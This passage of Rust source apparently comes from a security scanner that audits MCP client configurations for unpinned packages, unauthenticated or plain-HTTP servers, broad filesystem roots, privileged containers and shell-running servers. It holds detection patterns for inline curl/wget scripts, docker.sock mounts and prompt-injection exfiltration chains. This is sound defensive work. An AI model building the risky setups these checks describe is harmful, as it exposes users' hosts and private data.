//! MCP client configurations, recognised by content: a JSON object with
//! `mcpServers` (Claude Desktop, Cursor, Windsurf, Cline, Claude Code `.mcp.json`,
//! also nested per project as in `.claude.json`), `servers` whose entries have a
//! `command` or `url` (VS Code `mcp.json` and `settings.json` under `mcp`),
//! `context_servers` (Zed), and Continue's YAML `mcpServers:` list.
//!
//! Every server becomes an `mcp-server` asset on its key's line (name, transport,
//! command, package and version, pinned or not, URL host, names of environment
//! variables — never values). The rules look at how the server is launched (unpinned
//! `npx`/`uvx`/`pipx run`, shells, privileged containers, broad filesystem roots),
//! how it is reached (plain HTTP, no authentication) and what the servers of one file
//! can do together. Plaintext secrets in `env` and headers are the secrets
//! analyzer's (`SEC101`); nothing here reports or shows a value of `env` or headers.

use crate::json::{Node, Value};
use crate::rules;
use crate::text::preview;
use aispm_core::{AnalysisContext, Asset, AssetKind, ErrorKind, RawFinding, Severity};
use std::collections::BTreeSet;

/// Servers examined per file; the ones past it are counted and reported as a limit.
const MAX_SERVERS: usize = 1_000;

/// A string with the line it is on.
#[derive(Debug, Clone)]
pub struct Arg {
    pub text: String,
    pub line: u32,
}

/// One server of a client configuration.
#[derive(Debug, Clone, Default)]
pub struct Server {
    pub name: String,
    pub line: u32,
    /// The configuration key the server was found under.
    pub section: String,
    pub command: Option<Arg>,
    pub args: Vec<Arg>,
    pub url: Option<Arg>,
    pub transport_type: Option<String>,
    pub env_names: Vec<String>,
    pub header_names: Vec<String>,
    /// An `oauth`/`auth` block or similar.
    pub auth_block: bool,
    /// `"disabled": true`: the client does not start it until the user enables it.
    pub disabled: bool,
}

fn arg(n: &Node) -> Option<Arg> {
    n.as_str().map(|s| Arg {
        text: s.to_string(),
        line: n.line,
    })
}

fn looks_like_server(n: &Node) -> bool {
    n.is_object()
        && [
            "command",
            "url",
            "serverUrl",
            "httpUrl",
            "type",
            "transport",
        ]
        .iter()
        .any(|k| n.get(k).is_some())
}

fn server_from(name: &str, line: u32, section: &str, n: &Node) -> Server {
    let mut s = Server {
        name: name.to_string(),
        line,
        section: section.to_string(),
        disabled: n
            .get("disabled")
            .is_some_and(|d| matches!(d.value, Value::Bool(true))),
        ..Server::default()
    };
    let mut cmd_node = n;
    match n.get("command") {
        Some(c) if c.is_object() => {
            // Zed: "command": {"path": …, "args": […], "env": {…}}
            s.command = c.get("path").and_then(arg);
            cmd_node = c;
        }
        Some(c) => s.command = arg(c),
        None => {}
    }
    if let Some(args) = cmd_node.get("args").or_else(|| n.get("args")) {
        s.args = args.items().iter().filter_map(arg).collect();
    }
    s.url = ["url", "serverUrl", "httpUrl", "uri", "endpoint"]
        .iter()
        .find_map(|k| n.get(k).and_then(arg));
    s.transport_type = ["type", "transport"]
        .iter()
        .find_map(|k| n.get(k))
        .and_then(|t| t.as_str().or_else(|| t.get("type").and_then(Node::as_str)))
        .map(str::to_ascii_lowercase);
    let env = cmd_node.get("env").or_else(|| n.get("env"));
    if let Some(env) = env {
        s.env_names = env.entries().iter().map(|e| e.key.clone()).collect();
    }
    if let Some(h) = n
        .get("headers")
        .or_else(|| n.get("requestInit").and_then(|r| r.get("headers")))
    {
        s.header_names = h.entries().iter().map(|e| e.key.clone()).collect();
    }
    s.auth_block = n.entries().iter().any(|e| {
        let k = e.key.to_ascii_lowercase();
        matches!(
            k.as_str(),
            "oauth"
                | "auth"
                | "authorization"
                | "authprovider"
                | "authentication"
                | "bearer_token"
                | "bearertoken"
                | "apikey"
                | "api_key"
                | "token"
        )
    });
    s
}

/// The servers of a client configuration, and those past [`MAX_SERVERS`], counted
/// and not examined.
#[derive(Debug, Default)]
pub struct Found {
    pub servers: Vec<Server>,
    pub omitted: usize,
}

fn servers_in(node: &Node, section: &str, out: &mut Found) {
    match &node.value {
        Value::Object(entries) => {
            for e in entries {
                if looks_like_server(&e.node) {
                    if out.servers.len() >= MAX_SERVERS {
                        out.omitted += 1;
                        continue;
                    }
                    out.servers
                        .push(server_from(&e.key, e.key_line, section, &e.node));
                }
            }
        }
        Value::Array(items) => {
            // Continue's JSON form: a list of servers with a `name`.
            for item in items {
                if looks_like_server(item) {
                    if out.servers.len() >= MAX_SERVERS {
                        out.omitted += 1;
                        continue;
                    }
                    let name = item.get("name").and_then(Node::as_str).unwrap_or("");
                    out.servers
                        .push(server_from(name, item.line, section, item));
                }
            }
        }
        _ => {}
    }
}

/// Finds the servers of a client configuration (up to a few levels deep).
pub fn find_servers(root: &Node) -> Found {
    let mut out = Found::default();
    walk(root, 0, &mut out);
    out
}

fn walk(n: &Node, depth: usize, out: &mut Found) {
    if depth > 4 {
        return;
    }
    for e in n.entries() {
        match e.key.as_str() {
            "mcpServers" | "mcp_servers" | "context_servers" | "modelContextProtocolServers" => {
                servers_in(&e.node, &e.key, out)
            }
            // VS Code: only entries that look like servers.
            "servers" if e.node.entries().iter().any(|s| looks_like_server(&s.node)) => {
                servers_in(&e.node, &e.key, out)
            }
            _ if e.node.is_object() => walk(&e.node, depth + 1, out),
            _ => {}
        }
    }
}

// ---------------------------------------------------------------- launchers

/// The program name of a command: last path component, without `.exe`/`.cmd`.
pub fn program(cmd: &str) -> String {
    let base = cmd
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(cmd)
        .to_ascii_lowercase();
    for suffix in [".exe", ".cmd", ".bat", ".ps1"] {
        if let Some(b) = base.strip_suffix(suffix) {
            return b.to_string();
        }
    }
    base
}

/// The effective command and arguments: `cmd /c npx …` launches `npx …`.
fn effective(s: &Server) -> Option<(String, Vec<Arg>)> {
    let cmd = s.command.as_ref()?;
    let mut prog = program(&cmd.text);
    let mut args = s.args.clone();
    // A command string with spaces and no args: "npx -y pkg".
    if args.is_empty() && cmd.text.contains(' ') && !cmd.text.contains(['|', '&', ';', '$']) {
        let mut parts = cmd.text.split_whitespace();
        prog = program(parts.next().unwrap_or(""));
        args = parts
            .map(|p| Arg {
                text: p.to_string(),
                line: cmd.line,
            })
            .collect();
    }
    if prog == "cmd"
        && let Some(i) = args
            .iter()
            .position(|a| a.text.eq_ignore_ascii_case("/c") || a.text.eq_ignore_ascii_case("/k"))
        && let Some(next) = args.get(i + 1)
        && !next.text.contains(' ')
    {
        prog = program(&next.text);
        args = args[i + 2..].to_vec();
    }
    Some((prog, args))
}

/// Whether a npm version spec is an exact version.
fn exact_semver(v: &str) -> bool {
    let v = v.strip_prefix('v').unwrap_or(v);
    let core = v.split(['-', '+']).next().unwrap_or("");
    let parts: Vec<&str> = core.split('.').collect();
    parts.len() == 3
        && parts
            .iter()
            .all(|p| !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit()))
}

/// Splits `@scope/name@version` / `name@version` into name and version.
pub fn split_npm(spec: &str) -> (&str, Option<&str>) {
    let from = usize::from(spec.starts_with('@'));
    match spec[from..].find('@') {
        Some(i) => (&spec[..from + i], Some(&spec[from + i + 1..])),
        None => (spec, None),
    }
}

/// A package a launcher fetches from a registry.
#[derive(Debug, Clone)]
pub struct Package {
    pub launcher: &'static str,
    pub name: String,
    pub version: Option<String>,
    pub pinned: bool,
    pub line: u32,
}

fn is_local_or_url(spec: &str) -> bool {
    spec.starts_with(['.', '/', '~', '\\', '$']) || spec.contains(':') || spec.ends_with(".tgz")
}

fn npm_package(launcher: &'static str, args: &[Arg]) -> Option<Package> {
    let mut explicit: Option<&Arg> = None;
    let mut i = 0;
    while i < args.len() {
        let a = args[i].text.as_str();
        if a == "-p" || a == "--package" {
            explicit = explicit.or(args.get(i + 1));
            i += 2;
            continue;
        }
        if let Some(v) = a.strip_prefix("--package=") {
            let _ = v;
            explicit = explicit.or(Some(&args[i]));
            i += 1;
            continue;
        }
        if a == "-c" || a == "--call" {
            break;
        }
        if a == "--" {
            i += 1;
            continue;
        }
        if a.starts_with('-') {
            i += 1;
            continue;
        }
        break;
    }
    let chosen = explicit.or_else(|| args.get(i))?;
    let spec = chosen
        .text
        .strip_prefix("--package=")
        .unwrap_or(&chosen.text)
        .trim();
    if spec.is_empty() || spec.starts_with('-') || is_local_or_url(spec) {
        return None;
    }
    let (name, version) = split_npm(spec);
    let pinned = version.is_some_and(exact_semver);
    Some(Package {
        launcher,
        name: name.to_string(),
        version: version.map(str::to_string),
        pinned,
        line: chosen.line,
    })
}

/// `name==1.2.3`, `name@1.2.3`, `name[extra]==1.2.3`.
fn split_python(spec: &str) -> (String, Option<String>, bool) {
    if let Some((n, v)) = spec.split_once("==") {
        let v = v.trim();
        let exact = !v.is_empty() && !v.contains('*') && !v.contains(',');
        return (n.trim().to_string(), Some(v.to_string()), exact);
    }
    if let Some((n, v)) = spec.split_once('@') {
        let exact = v.starts_with(|c: char| c.is_ascii_digit());
        return (n.trim().to_string(), Some(v.to_string()), exact);
    }
    for op in [">=", "<=", "~=", "!=", ">", "<"] {
        if let Some((n, v)) = spec.split_once(op) {
            return (n.trim().to_string(), Some(format!("{op}{v}")), false);
        }
    }
    (spec.to_string(), None, false)
}

fn python_package(launcher: &'static str, args: &[Arg]) -> Option<Package> {
    const WITH_VALUE: &[&str] = &[
        "--from",
        "--spec",
        "--with",
        "--with-editable",
        "--with-requirements",
        "--python",
        "-p",
        "--index",
        "--index-url",
        "--extra-index-url",
        "--default-index",
        "--find-links",
        "-f",
        "--pip-args",
        "--constraint",
        "-c",
        "--override",
        "--directory",
        "--cache-dir",
        "--env-file",
        "--python-platform",
    ];
    let mut from: Option<&Arg> = None;
    let mut i = 0;
    while i < args.len() {
        let a = args[i].text.as_str();
        if a == "--from" || a == "--spec" {
            from = args.get(i + 1);
            i += 2;
            continue;
        }
        if a.starts_with("--from=") || a.starts_with("--spec=") {
            from = Some(&args[i]);
            i += 1;
            continue;
        }
        if WITH_VALUE.contains(&a) {
            i += 2;
            continue;
        }
        if a.starts_with('-') {
            i += 1;
            continue;
        }
        break;
    }
    let chosen = from.or_else(|| args.get(i))?;
    let spec = chosen
        .text
        .strip_prefix("--from=")
        .or_else(|| chosen.text.strip_prefix("--spec="))
        .unwrap_or(&chosen.text)
        .trim();
    if spec.is_empty() || spec.starts_with('-') || is_local_or_url(spec) || spec.contains(" @ ") {
        return None;
    }
    let (name, version, pinned) = split_python(spec);
    Some(Package {
        launcher,
        name,
        version,
        pinned,
        line: chosen.line,
    })
}

/// The package a server's launcher downloads, if it uses one.
pub fn package_of(s: &Server) -> Option<Package> {
    let (prog, args) = effective(s)?;
    match prog.as_str() {
        "npx" => npm_package("npx", &args),
        "bunx" => npm_package("bunx", &args),
        "pnpx" => npm_package("pnpx", &args),
        "pnpm" | "yarn" if args.first().is_some_and(|a| a.text == "dlx") => {
            npm_package("dlx", &args[1..])
        }
        "npm" if args.first().is_some_and(|a| a.text == "exec") => {
            npm_package("npm exec", &args[1..])
        }
        "uvx" => python_package("uvx", &args),
        "uv" if args.len() >= 2 && args[0].text == "tool" && args[1].text == "run" => {
            python_package("uvx", &args[2..])
        }
        "pipx" if args.first().is_some_and(|a| a.text == "run") => {
            python_package("pipx", &args[1..])
        }
        _ => None,
    }
}

// ---------------------------------------------------------------- URLs

/// Scheme, host (no user info), port and path of a URL; `None` if not a URL.
pub struct Url<'a> {
    pub scheme: String,
    pub host: &'a str,
    pub rest: &'a str,
}

pub fn parse_url(u: &str) -> Option<Url<'_>> {
    let (scheme, after) = u.trim().split_once("://")?;
    let end = after.find(['/', '?', '#']).unwrap_or(after.len());
    let authority = &after[..end];
    let hostport = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    let host = if let Some(rest) = hostport.strip_prefix('[') {
        rest.split(']').next().unwrap_or("")
    } else {
        hostport.split(':').next().unwrap_or("")
    };
    Some(Url {
        scheme: scheme.to_ascii_lowercase(),
        host,
        rest: &after[end..],
    })
}

/// The URL without user info, query or fragment: safe to show.
pub fn display_url(u: &str) -> String {
    match parse_url(u) {
        Some(p) => {
            let path = p.rest.split(['?', '#']).next().unwrap_or("");
            let after = u.split_once("://").map_or("", |x| x.1);
            let end = after.find(['/', '?', '#']).unwrap_or(after.len());
            let authority = &after[..end];
            let hostport = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
            preview(&format!("{}://{hostport}{path}", p.scheme), 120)
        }
        None => preview(u, 60),
    }
}

pub fn is_loopback(host: &str) -> bool {
    let h = host.to_ascii_lowercase();
    h == "localhost"
        || h.ends_with(".localhost")
        || h == "::1"
        || h == "0.0.0.0"
        || h == "host.docker.internal"
        || (h.starts_with("127.")
            && h.split('.').count() == 4
            && h.split('.').all(|p| p.parse::<u8>().is_ok()))
}

/// Whether a value is a variable reference rather than a literal.
pub fn is_reference(v: &str) -> bool {
    v.contains("${") || v.starts_with('$') || v.starts_with('%')
}

// ---------------------------------------------------------------- roles

fn identity(s: &Server, pkg: Option<&Package>) -> String {
    let mut id = s.name.to_ascii_lowercase();
    if let Some(p) = pkg {
        id.push(' ');
        id.push_str(&p.name.to_ascii_lowercase());
    }
    if let Some(c) = &s.command {
        id.push(' ');
        id.push_str(&program(&c.text));
    }
    if let Some(u) = &s.url
        && let Some(p) = parse_url(&u.text)
    {
        id.push(' ');
        id.push_str(&p.host.to_ascii_lowercase());
    }
    for a in s.args.iter().take(4) {
        if !a.text.starts_with('-') && !a.text.starts_with('/') && a.text.len() < 80 {
            id.push(' ');
            id.push_str(&a.text.to_ascii_lowercase());
        }
    }
    id
}

fn tokens(id: &str) -> BTreeSet<&str> {
    id.split(|c: char| !c.is_ascii_alphanumeric())
        .filter(|t| !t.is_empty())
        .collect()
}

const UNTRUSTED: &[&str] = &[
    "fetch",
    "browser",
    "playwright",
    "puppeteer",
    "websearch",
    "search",
    "brave",
    "tavily",
    "exa",
    "serper",
    "serpapi",
    "perplexity",
    "firecrawl",
    "crawl",
    "crawler",
    "scrape",
    "scraper",
    "gmail",
    "mail",
    "email",
    "imap",
    "outlook",
    "slack",
    "discord",
    "teams",
    "jira",
    "linear",
    "issues",
    "github",
    "gitlab",
    "reddit",
    "twitter",
    "rss",
    "youtube",
    "web",
    "http",
    "telegram",
    "whatsapp",
    "zendesk",
    "intercom",
];
const PRIVATE: &[&str] = &[
    "filesystem",
    "fs",
    "files",
    "file",
    "postgres",
    "postgresql",
    "mysql",
    "sqlite",
    "database",
    "db",
    "mongo",
    "mongodb",
    "redis",
    "supabase",
    "github",
    "gitlab",
    "gdrive",
    "drive",
    "onedrive",
    "dropbox",
    "notion",
    "memory",
    "obsidian",
    "notes",
    "git",
    "snowflake",
    "bigquery",
    "1password",
    "keychain",
    "vault",
    "confluence",
    "sharepoint",
    "salesforce",
    "s3",
];
const OUTBOUND: &[&str] = &[
    "fetch",
    "http",
    "curl",
    "request",
    "requests",
    "mail",
    "gmail",
    "email",
    "smtp",
    "slack",
    "discord",
    "teams",
    "github",
    "gitlab",
    "webhook",
    "twitter",
    "telegram",
    "whatsapp",
    "sms",
    "twilio",
    "browser",
    "playwright",
    "puppeteer",
    "sendgrid",
    "jira",
    "linear",
];

fn has_role(id: &str, words: &[&str]) -> bool {
    let t = tokens(id);
    words.iter().any(|w| t.contains(w))
}

// ---------------------------------------------------------------- rules

const FS_WORDS: &[&str] = &[
    "filesystem",
    "file-system",
    "server-fs",
    "fs-mcp",
    "mcp-fs",
    "files-mcp",
];
const SHELL_WORDS: &[&str] = &[
    "server-shell",
    "mcp-shell",
    "shell-mcp",
    "shell-server",
    "mcp-server-shell",
    "desktop-commander",
    "desktopcommander",
    "mcp-server-commands",
    "cli-mcp-server",
    "terminal-mcp",
    "mcp-terminal",
    "iterm-mcp",
    "code-runner",
    "mcp-run-command",
    "execute-command",
    "command-executor",
    "mcp-server-bash",
    "bash-mcp",
];
const SHELLS: &[&str] = &[
    "bash",
    "sh",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "cmd",
    "powershell",
    "pwsh",
];

fn is_broad_root(p: &str) -> bool {
    let t = p.trim().trim_end_matches(['/', '\\']);
    if t.is_empty() {
        // "/" or "\" trimmed away.
        return !p.trim().is_empty();
    }
    let lower = t.to_ascii_lowercase();
    if matches!(
        lower.as_str(),
        "~" | "$home"
            | "${home}"
            | "${env:home}"
            | "${userhome}"
            | "%userprofile%"
            | "%homepath%"
            | "c:"
            | "/root"
            | "/users"
            | "/home"
    ) {
        return true;
    }
    let parts: Vec<&str> = t.split(['/', '\\']).filter(|s| !s.is_empty()).collect();
    // /Users/<name>, /home/<name>, C:\Users\<name>
    match parts.as_slice() {
        [u, _] if u.eq_ignore_ascii_case("users") || *u == "home" => t.starts_with(['/', '\\']),
        [d, u, _] if d.len() == 2 && d.ends_with(':') && u.eq_ignore_ascii_case("users") => true,
        _ => false,
    }
}

fn finding_for(
    rule: &'static aispm_core::Rule,
    path: &str,
    s: &Server,
    line: u32,
    msg: String,
) -> RawFinding {
    // A disabled server runs only once the user turns it on: still worth fixing, not
    // at the severity of one that starts with the client.
    if s.disabled {
        return RawFinding::new(rule, path, format!("{msg} (the server is disabled)"))
            .line(line)
            .severity(Severity::Low)
            .property("server", s.name.clone())
            .property("disabled", true);
    }
    RawFinding::new(rule, path, msg)
        .line(line)
        .property("server", s.name.clone())
}

/// Whether a remote server presents itself as documentation (its name or its URL
/// says `docs`, `documentation` or `knowledge`): public reference endpoints are
/// anonymous by design and hold nothing to protect, so no authentication is no finding.
fn documentation_server(s: &Server, url: &str) -> bool {
    let words = |t: &str| {
        t.to_ascii_lowercase()
            .split(|c: char| !c.is_ascii_alphanumeric())
            .any(|w| matches!(w, "docs" | "doc" | "documentation" | "knowledge"))
    };
    words(&s.name) || words(url)
}

/// Judges one server.
fn check_server(
    path: &str,
    s: &Server,
    pkg: Option<&Package>,
    asset_id: &str,
    cx: &mut AnalysisContext,
) {
    let name = preview(&s.name, 60);
    if let Some(p) = pkg
        && !p.pinned
    {
        let (rule, what) = if matches!(p.launcher, "uvx" | "pipx") {
            (&rules::UNPINNED_UVX, p.launcher)
        } else {
            (&rules::UNPINNED_NPX, p.launcher)
        };
        let version = match &p.version {
            Some(v) => format!("`{}` is not an exact version", preview(v, 40)),
            None => "no version".to_string(),
        };
        cx.report(
            finding_for(
                rule,
                path,
                s,
                p.line,
                format!(
                    "MCP server `{name}` runs `{}` through {what} with {version}: whatever the registry serves next is run",
                    preview(&p.name, 80)
                ),
            )
            .evidence(match &p.version {
                Some(v) => format!("{what} {}@{}", preview(&p.name, 80), preview(v, 40)),
                None => format!("{what} {}", preview(&p.name, 80)),
            })
            .key(format!("{}:{}:{}", s.name, p.launcher, p.name))
            .property("package", p.name.clone())
            .asset(asset_id),
        );
    }

    // Transport.
    let mut urls: Vec<&Arg> = s.url.iter().collect();
    urls.extend(
        s.args
            .iter()
            .filter(|a| a.text.starts_with("http://") || a.text.starts_with("https://")),
    );
    for u in urls {
        let Some(p) = parse_url(&u.text) else {
            continue;
        };
        if p.host.is_empty() || is_reference(p.host) {
            continue;
        }
        let shown = display_url(&u.text);
        if p.scheme == "http" && !is_loopback(p.host) {
            cx.report(
                finding_for(
                    &rules::INSECURE_HTTP,
                    path,
                    s,
                    u.line,
                    format!(
                        "MCP server `{name}` is reached over plain HTTP at {}",
                        preview(p.host, 80)
                    ),
                )
                .evidence(shown.clone())
                .key(format!("{}:{shown}", s.name))
                .asset(asset_id),
            );
        }
        let is_endpoint = s
            .url
            .as_ref()
            .is_some_and(|x| x.line == u.line && x.text == u.text);
        let query_auth = p.rest.to_ascii_lowercase().contains("key=")
            || p.rest.to_ascii_lowercase().contains("token=");
        if is_endpoint
            && p.scheme == "https"
            && !is_loopback(p.host)
            && !has_auth(s)
            && !query_auth
            && !documentation_server(s, &u.text)
        {
            cx.report(
                finding_for(
                    &rules::REMOTE_NO_AUTH,
                    path,
                    s,
                    u.line,
                    format!(
                        "Remote MCP server `{name}` at {} has no authentication configured",
                        preview(p.host, 80)
                    ),
                )
                .evidence(shown.clone())
                .key(format!("{}:{shown}", s.name))
                .asset(asset_id),
            );
        }
    }

    let id = identity(s, pkg);
    let (prog, args) = effective(s).unwrap_or_default();

    // Filesystem roots.
    if FS_WORDS.iter().any(|w| id.contains(w)) || s.name.eq_ignore_ascii_case("fs") {
        for a in &args {
            if is_broad_root(&a.text) {
                cx.report(
                    finding_for(
                        &rules::FILESYSTEM_BROAD_ROOT,
                        path,
                        s,
                        a.line,
                        format!(
                            "Filesystem MCP server `{name}` may read and write everything under `{}`",
                            preview(&a.text, 60)
                        ),
                    )
                    .evidence(format!("root {}", preview(&a.text, 60)))
                    .key(format!("{}:{}", s.name, a.text))
                    .asset(asset_id),
                );
            }
        }
    }

    // Shells.
    let shell_pkg = SHELL_WORDS
        .iter()
        .find(|w| id.contains(*w))
        .copied()
        .or_else(|| {
            tokens(&s.name.to_ascii_lowercase())
                .into_iter()
                .find(|t| matches!(*t, "shell" | "terminal" | "bash" | "exec" | "commander"))
                .map(|_| "server name")
        });
    let inline_script = if SHELLS.contains(&prog.as_str()) {
        args.iter()
            .position(|a| {
                matches!(
                    a.text.to_ascii_lowercase().as_str(),
                    "-c" | "/c" | "/k" | "-command" | "-encodedcommand" | "-lc"
                )
            })
            .and_then(|i| args.get(i + 1))
            .filter(|a| {
                a.text.contains(['|', ';', '>', '`'])
                    || a.text.contains("&&")
                    || a.text.contains("$(")
                    || a.text.contains("curl ")
                    || a.text.contains("wget ")
            })
    } else {
        None
    };
    if let Some(script) = inline_script {
        cx.report(
            finding_for(
                &rules::SHELL_EXECUTION,
                path,
                s,
                script.line,
                format!("MCP server `{name}` is started by a `{prog}` command line script"),
            )
            .evidence(format!("{prog} -c \"{}\"", preview(&script.text, 60)))
            .key(format!("{}:script", s.name))
            .asset(asset_id),
        );
    } else if let Some(w) = shell_pkg {
        let line = pkg.map_or(s.line, |p| p.line);
        cx.report(
            finding_for(
                &rules::SHELL_EXECUTION,
                path,
                s,
                line,
                format!("MCP server `{name}` gives the model a shell to run commands"),
            )
            .evidence(format!("command-execution server ({w})"))
            .key(format!("{}:shell", s.name))
            .asset(asset_id),
        );
    }

    // Containers.
    if matches!(prog.as_str(), "docker" | "podman" | "nerdctl")
        && args.iter().any(|a| a.text == "run")
    {
        let mut i = 0;
        while i < args.len() {
            let a = args[i].text.as_str();
            let next = args.get(i + 1).map(|n| n.text.as_str()).unwrap_or("");
            let mut problem: Option<String> = None;
            if a == "--privileged" || a == "--privileged=true" {
                problem = Some("--privileged".into());
            } else if a == "--cap-add"
                && matches!(next.to_ascii_uppercase().as_str(), "ALL" | "SYS_ADMIN")
                || a.eq_ignore_ascii_case("--cap-add=all")
                || a.eq_ignore_ascii_case("--cap-add=sys_admin")
            {
                problem = Some(format!(
                    "capability {}",
                    if next.is_empty() || a.contains('=') {
                        a
                    } else {
                        next
                    }
                ));
            } else if a == "--pid=host" || (a == "--pid" && next == "host") {
                problem = Some("--pid=host".into());
            } else if a == "-v"
                || a == "--volume"
                || a.starts_with("--volume=")
                || a.starts_with("-v=")
            {
                let spec = a.split_once('=').map_or(next, |x| x.1);
                let src = spec.split(':').next().unwrap_or("");
                if dangerous_mount(src) {
                    problem = Some(format!("mount of {}", preview(src, 60)));
                }
            } else if a == "--mount" || a.starts_with("--mount=") {
                let spec = a.strip_prefix("--mount=").unwrap_or(next);
                for kv in spec.split(',') {
                    if let Some((k, v)) = kv.split_once('=')
                        && matches!(k, "source" | "src")
                        && dangerous_mount(v)
                    {
                        problem = Some(format!("mount of {}", preview(v, 60)));
                    }
                }
            }
            if let Some(p) = problem {
                cx.report(
                    finding_for(
                        &rules::DOCKER_PRIVILEGED,
                        path,
                        s,
                        args[i].line,
                        format!(
                            "MCP server `{name}` runs in a container with {p}: it controls the host"
                        ),
                    )
                    .evidence(p.clone())
                    .key(format!("{}:{p}", s.name))
                    .asset(asset_id),
                );
            }
            i += 1;
        }
    }
}

fn dangerous_mount(src: &str) -> bool {
    let s = src.trim();
    s == "/" || s.ends_with("docker.sock") || is_broad_root(s) || s == "/etc" || s == "/var/run"
}

fn has_auth(s: &Server) -> bool {
    s.auth_block
        || s.header_names.iter().any(|h| {
            let h = h.to_ascii_lowercase();
            h.contains("auth")
                || h.contains("key")
                || h.contains("token")
                || h.contains("cookie")
                || h.contains("secret")
        })
}

fn transport(s: &Server) -> String {
    if let Some(t) = &s.transport_type {
        return match t.as_str() {
            "streamable-http" | "streamablehttp" | "http" | "streamable_http" => "http".into(),
            other => other.to_string(),
        };
    }
    match &s.url {
        Some(u) if u.text.trim_end_matches('/').ends_with("/sse") => "sse".into(),
        Some(_) => "http".into(),
        None => "stdio".into(),
    }
}

/// Analyzes every server in `servers` (from one file).
fn analyze_servers(path: &str, format: &str, servers: &[Server], cx: &mut AnalysisContext) {
    let mut roles: Vec<(usize, bool, bool, bool)> = Vec::new();
    for (i, s) in servers.iter().enumerate() {
        let pkg = package_of(s);
        let mut asset = Asset::new(
            AssetKind::McpServer,
            path,
            &format!("{}#{i}", s.name),
            format,
        );
        asset.line = Some(s.line);
        asset.set("server_name", s.name.clone());
        asset.set("transport", transport(s));
        asset.set("config_key", s.section.clone());
        if let Some(c) = &s.command {
            asset.set("command", preview(&program(&c.text), 60));
        }
        if let Some(p) = &pkg {
            asset.set("package", p.name.clone());
            asset.set("launcher", p.launcher);
            if let Some(v) = &p.version {
                asset.set("version", v.clone());
            }
            asset.set("pinned", p.pinned);
        }
        if let Some(u) = &s.url
            && let Some(p) = parse_url(&u.text)
        {
            asset.set("url_host", p.host.to_string());
        }
        if !s.env_names.is_empty() {
            asset.set("env_vars", s.env_names.clone());
        }
        if !s.header_names.is_empty() {
            asset.set("headers", s.header_names.clone());
        }
        let id = asset.id.clone();
        cx.asset(asset);
        check_server(path, s, pkg.as_ref(), &id, cx);
        let ident = identity(s, pkg.as_ref());
        roles.push((
            i,
            has_role(&ident, UNTRUSTED),
            has_role(&ident, PRIVATE),
            has_role(&ident, OUTBOUND),
        ));
    }
    toxic(path, servers, &roles, cx);
}

fn toxic(
    path: &str,
    servers: &[Server],
    roles: &[(usize, bool, bool, bool)],
    cx: &mut AnalysisContext,
) {
    // Candidates per role, the servers with fewer other roles first, so that a pure
    // ingestion source is named as the untrusted input rather than, say, GitHub.
    let pick = |f: fn(&(usize, bool, bool, bool)) -> bool| -> Vec<usize> {
        let mut v: Vec<&(usize, bool, bool, bool)> =
            roles.iter().take(60).filter(|r| f(r)).collect();
        v.sort_by_key(|r| u8::from(r.1) + u8::from(r.2) + u8::from(r.3));
        v.into_iter().map(|r| r.0).collect()
    };
    let untrusted = pick(|r| r.1);
    let private = pick(|r| r.2);
    let outbound = pick(|r| r.3);
    let mut best: Option<(usize, usize, usize)> = None;
    'outer: for &a in &untrusted {
        for &b in &private {
            for &c in &outbound {
                let distinct = [a, b, c].iter().collect::<BTreeSet<_>>().len();
                if distinct == 3 {
                    best = Some((a, b, c));
                    break 'outer;
                }
                if distinct == 2 && best.is_none() {
                    best = Some((a, b, c));
                }
            }
        }
    }
    let Some((a, b, c)) = best else { return };
    let names = [&servers[a].name, &servers[b].name, &servers[c].name].map(|n| preview(n, 40));
    let line = servers[a].line.min(servers[b].line).min(servers[c].line);
    cx.report(
        RawFinding::new(
            &rules::TOXIC_COMBINATION,
            path,
            format!(
                "MCP servers `{}` (untrusted input), `{}` (private data) and `{}` (outbound channel) together let an injected instruction exfiltrate data",
                names[0], names[1], names[2]
            ),
        )
        .line(line)
        .evidence(format!(
            "untrusted input: {}; private data: {}; outbound: {}",
            names[0], names[1], names[2]
        ))
        .key(format!("toxic:{}:{}:{}", names[0], names[1], names[2]))
        .property("servers", names.to_vec()),
    );
}

/// Judges a JSON document if it is an MCP client configuration; returns whether it is.
pub fn analyze_json(path: &str, root: &Node, cx: &mut AnalysisContext) -> bool {
    let found = find_servers(root);
    if found.servers.is_empty() {
        return false;
    }
    analyze_servers(path, "mcp-config", &found.servers, cx);
    if found.omitted > 0 {
        cx.error(
            path,
            ErrorKind::Limit,
            format!(
                "{} MCP servers past the first {MAX_SERVERS} of this configuration were not examined",
                found.omitted
            ),
        );
    }
    true
}

// ---------------------------------------------------------------- Continue YAML

fn indent(l: &str) -> usize {
    l.len() - l.trim_start_matches(' ').len()
}

fn yaml_scalar(v: &str) -> String {
    let v = v.trim();
    let v = match v.find(" #") {
        Some(i) if !v.starts_with(['"', '\'']) => &v[..i],
        _ => v,
    };
    v.trim().trim_matches(['"', '\'']).to_string()
}

/// Continue's `config.yaml` (`mcpServers:` as a list of `- name: …` items with
/// `command`, `args`, `env`, `url`), read line by line for exact lines.
pub fn analyze_yaml(path: &str, text: &str, cx: &mut AnalysisContext) -> bool {
    let lines: Vec<&str> = text.lines().collect();
    let Some(start) = lines
        .iter()
        .position(|l| l.trim_end() == "mcpServers:" && indent(l) == 0)
    else {
        return false;
    };
    let mut servers: Vec<Server> = Vec::new();
    let mut cur: Option<Server> = None;
    let mut item_indent = None;
    let mut in_list: Option<&str> = None;
    for (i, raw) in lines.iter().enumerate().skip(start + 1) {
        let line = u32::try_from(i + 1).unwrap_or(u32::MAX);
        let t = raw.trim();
        if t.is_empty() || t.starts_with('#') {
            continue;
        }
        let ind = indent(raw);
        if ind == 0 {
            break;
        }
        if let Some(rest) = t.strip_prefix("- ") {
            if item_indent.is_none_or(|ii| ind <= ii) {
                item_indent = Some(ind);
                if let Some(s) = cur.take() {
                    servers.push(s);
                }
                cur = Some(Server {
                    line,
                    section: "mcpServers".into(),
                    ..Server::default()
                });
                in_list = None;
                if let Some((k, v)) = rest.split_once(':') {
                    set_yaml_key(cur.as_mut(), k.trim(), v, line, &mut in_list);
                }
                continue;
            }
            if let (Some(s), Some(list)) = (cur.as_mut(), in_list) {
                let v = Arg {
                    text: yaml_scalar(rest),
                    line,
                };
                if list == "args" {
                    s.args.push(v);
                }
            }
            continue;
        }
        if let Some((k, v)) = t.split_once(':') {
            let key = k.trim();
            let nested_in_env =
